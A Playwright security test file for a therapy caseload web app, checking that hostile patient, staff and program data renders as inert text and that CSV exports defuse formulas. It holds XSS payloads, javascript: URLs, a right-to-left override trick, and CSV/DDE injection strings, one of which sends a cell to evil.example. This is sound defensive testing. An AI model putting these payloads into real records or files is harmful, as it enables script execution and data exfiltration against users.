import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Locator, Page } from '@playwright/test';
import { WaypointServer, buildServer } from '../server/app';
import { DEMO_USERS } from '../server/auth/demo-users';
import { Resource } from '../server/db/resource-store';
import { simulateCohort } from '../server/seed/cohort';
import { todayIn } from '../server/seed/seed-calendar';
import { curvesFromCohort } from '../server/seed/seed-curves';
import { clientResources, curvesLibrary, directoryResources } from '../server/seed/to-fhir';
import { LOAD_TIMEOUT, expect, signIn, test } from './fixtures';

/**
 * Hostile content: names and notes that carry markup and script, `javascript:` URLs, a
 * right-to-left override and a 100 kB string must render as plain text, run nothing, create no
 * element, link nowhere, break no layout and cause no CSP or Trusted Types violation (the
 * fixture fails any test with a `securitypolicyviolation` event).
 *
 * The data lives on a server of its own, started here on a loopback port with a small seeded
 * database and the same production build and headers as the suite's server, so the suite's
 * other specs, which compare what they see with the seed, never meet these records.
 */

const MARKUP = '<img src=x onerror=alert(1)>';
const SCRIPT = '<script>alert(2)</script>';
const RLO = '\u202E';
const HOSTILE_GIVEN = MARKUP;
const HOSTILE_FAMILY = `${RLO}fdp.exe${SCRIPT}`;
const HOSTILE_NAME = `${HOSTILE_GIVEN} ${HOSTILE_FAMILY}`;
/** How the name shows: as stored, but without the override that would turn "fdp.exe" round. */
const SHOWN_NAME = HOSTILE_NAME.replace(RLO, '');
/** 100 kB with no break opportunity: the worst case for a table cell or a card. */
const LONG_FAMILY = `Long${'W'.repeat(100_000)}`;
const HOSTILE_PROGRAM = `<b onmouseover=alert(3)>Adult</b> IOP javascript:alert(4)`;
const HOSTILE_FLAG = `javascript:alert(5) <a href="javascript:alert(6)">call</a> ${RLO}kcab`;
const HOSTILE_PLAN = `javascript:alert(7)//<svg onload=alert(8)>`;
const HOSTILE_STAFF_FAMILY = `<iframe src="javascript:alert(9)"></iframe>`;
/** Names a spreadsheet would run as formulas (CSV injection) if an export passed them through. */
const FORMULA_GIVEN = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
const FORMULA_FAMILY = "@SUM(1+1)*cmd|' /C calc'!A0";
const FORMULA_STAFF_GIVEN = "-2+3+cmd|' /C calc'!A0";

interface Hostile {
  readonly server: WaypointServer;
  readonly origin: string;
  readonly therapist: string;
  readonly patientId: string;
  readonly longId: string;
  readonly formulaId: string;
  stop(): Promise<void>;
}

type Res = Resource & Record<string, unknown>;
const refOf = (value: unknown) => (value as { reference?: string } | undefined)?.reference ?? '';

/** A small cohort with one therapist's two clients, their program and a colleague made hostile. */
async function startHostileServer(): Promise<Hostile> {
  const timeZone = 'America/Chicago';
  const today = todayIn(timeZone);
  const cohort = simulateCohort({ seed: 11, today, timeZone, historyDays: 365 }, 16);
  const resources = [
    ...directoryResources(),
    ...cohort.flatMap(clientResources),
    curvesLibrary(curvesFromCohort(cohort, timeZone, today)),
  ] as Res[];

  // Two clients in care with the same therapist, a demo user who can sign in.
  const active = resources.filter(
    (r) =>
      r.resourceType === 'EpisodeOfCare' &&
      r['status'] === 'active' &&
      DEMO_USERS.some(
        (u) =>
          u.role === 'therapist' && refOf(r['careManager']) === `Practitioner/${u.practitionerId}`,
      ),
  );
  const byTherapist = new Map<string, Res[]>();
  for (const e of active)
    byTherapist.set(refOf(e['careManager']), [
      ...(byTherapist.get(refOf(e['careManager'])) ?? []),
      e,
    ]);
  const found = [...byTherapist].find(([, list]) => list.length >= 3);
  if (!found) throw new Error('the hostile seed needs a demo therapist with three clients in care');
  const [managerRef, episodes] = found;
  const therapist = DEMO_USERS.find((u) => `Practitioner/${u.practitionerId}` === managerRef)!;
  const patientId = refOf(episodes[0]['patient']).replace('Patient/', '');
  const longId = refOf(episodes[1]['patient']).replace('Patient/', '');
  const formulaId = refOf(episodes[2]['patient']).replace('Patient/', '');
  const programId = refOf(episodes[0]['managingOrganization']).replace('Organization/', '');
  const colleague = DEMO_USERS.find(
    (u) => u.role === 'therapist' && u.practitionerId !== therapist.practitionerId,
  )!;

  for (const r of resources) {
    if (r.resourceType === 'Patient' && r.id === patientId)
      r['name'] = [{ use: 'official', family: HOSTILE_FAMILY, given: [HOSTILE_GIVEN] }];
    if (r.resourceType === 'Patient' && r.id === longId)
      r['name'] = [{ use: 'official', family: LONG_FAMILY, given: ['Very'] }];
    if (r.resourceType === 'Patient' && r.id === formulaId)
      r['name'] = [{ use: 'official', family: FORMULA_FAMILY, given: [FORMULA_GIVEN] }];
    if (r.resourceType === 'Organization' && r.id === programId) r['name'] = HOSTILE_PROGRAM;
    if (r.resourceType === 'Practitioner' && r.id === colleague.practitionerId)
      r['name'] = [{ family: HOSTILE_STAFF_FAMILY, given: [FORMULA_STAFF_GIVEN] }];
    if (r.resourceType === 'CarePlan' && refOf(r['subject']) === `Patient/${patientId}`) {
      r['title'] = HOSTILE_PLAN;
      r['description'] = HOSTILE_PLAN;
      r['note'] = [{ text: HOSTILE_PLAN }];
    }
  }
  resources.push({
    resourceType: 'Flag',
    id: 'flag-hostile',
    status: 'active',
    category: [
      {
        coding: [{ system: 'http://terminology.hl7.org/CodeSystem/flag-category', code: 'safety' }],
      },
    ],
    code: {
      coding: [{ system: 'http://snomed.info/sct', code: '225444004' }],
      text: HOSTILE_FLAG,
    },
    subject: { reference: `Patient/${patientId}` },
    period: { start: `${today}` },
  });

  const dir = mkdtempSync(join(tmpdir(), 'waypoint-hostile-'));
  const server = await buildServer({
    dbFile: join(dir, 'hostile.sqlite'),
    auth: 'smart',
    appDirectory: 'dist/waypoint/browser',
  });
  server.store.loadMany(resources);
  await server.app.listen({ port: 0, host: '127.0.0.1' });
  const address = server.app.server.address();
  const origin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  return {
    server,
    origin,
    therapist: therapist.name,
    patientId,
    longId,
    formulaId,
    async stop() {
      await server.app.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

/** What hostile markup could have produced in the page, and whether the page overflows. */
async function damage(page: Page) {
  return page.evaluate(() => ({
    injectedImages: document.querySelectorAll('img[src="x"], img[src$="/x"]').length,
    injectedElements: document.querySelectorAll('svg[onload], iframe, b[onmouseover], [onerror]')
      .length,
    scripts: Array.from(document.scripts).filter((s) => /alert\(/.test(s.textContent ?? '')).length,
    javascriptLinks: Array.from(document.querySelectorAll('a[href], area[href]'))
      .map((a) => (a as HTMLAnchorElement).href)
      .filter((href) => /^\s*javascript:/i.test(href)),
    pageOverflow: document.documentElement.scrollWidth - document.documentElement.clientWidth,
  }));
}

/** RFC 4180 fields, enough to read an export back: quoted fields may hold commas and quotes. */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

/** Saves an export through its button and returns its cells. */
async function exportCells(page: Page, button: Locator): Promise<string[]> {
  const download = page.waitForEvent('download');
  await button.click();
  const text = readFileSync((await (await download).path())!, 'utf8');
  return csvRows(text).flat();
}

/** A cell a spreadsheet would evaluate: starts with = + - @ (or tab / CR) and is not a number. */
const runsAsFormula = (cell: string) =>
  /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?%?$/.test(cell);

const NO_DAMAGE = { injectedImages: 0, injectedElements: 0, scripts: 0, javascriptLinks: [] };

async function expectNoDamage(page: Page, where: string) {
  const found = await damage(page);
  expect({ ...found, pageOverflow: undefined }, where).toEqual({
    ...NO_DAMAGE,
    pageOverflow: undefined,
  });
  // The 100 kB name may scroll inside its table, never widen the page.
  expect(found.pageOverflow, `${where}: horizontal page overflow (px)`).toBeLessThanOrEqual(1);
}

test.describe('hostile content renders as plain text', () => {
  test.describe.configure({ mode: 'serial' });
  let hostile: Hostile;
  const dialogs: string[] = [];

  test.beforeAll(async () => {
    hostile = await startHostileServer();
  });
  test.afterAll(async () => {
    await hostile?.stop();
  });
  test.beforeEach(({ page }) => {
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
  });
  test.afterEach(() => {
    expect(dialogs, 'dialogs opened by hostile content').toEqual([]);
  });

  test('a therapist: caseload, progress page and step-down board', async ({ page }) => {
    await signIn(page, hostile.therapist, `${hostile.origin}/caseload`);
    const table = page.getByRole('table').first();
    await expect(table.getByRole('link', { name: SHOWN_NAME, exact: true })).toBeVisible({
      timeout: LOAD_TIMEOUT,
    });
    await expect(table.getByRole('link', { name: /^Very LongW+$/ })).toHaveCount(1);
    await expectNoDamage(page, 'caseload');

    // The export keeps the formula-like name as text: every such cell is defused with a quote.
    const caseloadCells = await exportCells(page, page.getByRole('button', { name: 'Export CSV' }));
    expect(caseloadCells.filter(runsAsFormula), 'caseload CSV cells that run as formulas').toEqual(
      [],
    );
    expect(caseloadCells.some((cell) => cell.includes(FORMULA_GIVEN))).toBe(true);

    await page.goto(`${hostile.origin}/clients/${hostile.patientId}`);
    const heading = page.getByRole('heading', { level: 1 });
    await expect(heading).toHaveText(SHOWN_NAME, { timeout: LOAD_TIMEOUT });
    expect(await heading.evaluate((h) => h.textContent?.trim())).toBe(SHOWN_NAME);
    await expect(page.getByRole('main')).toContainText(HOSTILE_PROGRAM);
    await expect(page.getByRole('article').first()).toBeVisible({ timeout: LOAD_TIMEOUT });
    await expectNoDamage(page, 'progress page');

    await page.goto(`${hostile.origin}/clients/${hostile.longId}`);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Very ${LONG_FAMILY}`, {
      timeout: LOAD_TIMEOUT,
    });
    await expectNoDamage(page, 'progress page with a 100 kB name');

    await page.goto(`${hostile.origin}/step-down`);
    const card = page
      .getByRole('article')
      .filter({ has: page.getByRole('heading', { name: SHOWN_NAME, exact: true }) });
    await expect(card).toBeVisible({ timeout: LOAD_TIMEOUT });
    await expectNoDamage(page, 'step-down board');
    await page.goto(`${hostile.origin}/step-down?journey=${hostile.patientId}`);
    await expect(page.getByRole('region', { name: `Journey: ${SHOWN_NAME}` })).toBeVisible({
      timeout: LOAD_TIMEOUT,
    });
    await expectNoDamage(page, 'journey');
  });

  test('the director: caseload with every therapist, outcomes and cohort flows', async ({
    page,
  }) => {
    await signIn(page, 'Dana Riverstone', `${hostile.origin}/caseload`);
    await expect(
      page.getByRole('table').first().getByRole('link', { name: SHOWN_NAME, exact: true }),
    ).toBeVisible({ timeout: LOAD_TIMEOUT });
    await page.getByRole('combobox', { name: 'Therapist' }).click();
    await expect(page.getByRole('option', { name: new RegExp('<iframe') })).toHaveCount(1);
    await expectNoDamage(page, 'director caseload with the therapist list open');
    await page.keyboard.press('Escape');

    await page.goto(`${hostile.origin}/outcomes?period=last-365&by=program`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible({ timeout: LOAD_TIMEOUT });
    await expect(page.getByRole('main')).toContainText('Adult', { timeout: LOAD_TIMEOUT });
    await expectNoDamage(page, 'outcomes by program');
    await page.goto(`${hostile.origin}/outcomes?period=last-365&by=therapist`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible({ timeout: LOAD_TIMEOUT });
    await expectNoDamage(page, 'outcomes by therapist');
    const breakdownCells = await exportCells(
      page,
      page
        .getByRole('region', { name: 'Who is it working for?' })
        .getByRole('button', { name: 'Export CSV' }),
    );
    expect(
      breakdownCells.filter(runsAsFormula),
      'breakdown CSV cells that run as formulas',
    ).toEqual([]);
    expect(breakdownCells.some((cell) => cell.includes(FORMULA_STAFF_GIVEN))).toBe(true);

    await page.goto(`${hostile.origin}/step-down?admittedFrom=2000-01-01`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible({ timeout: LOAD_TIMEOUT });
    await expect(page.locator('canvas').first()).toBeVisible({ timeout: LOAD_TIMEOUT });
    await expectNoDamage(page, 'step-down with cohort flows');
  });
});
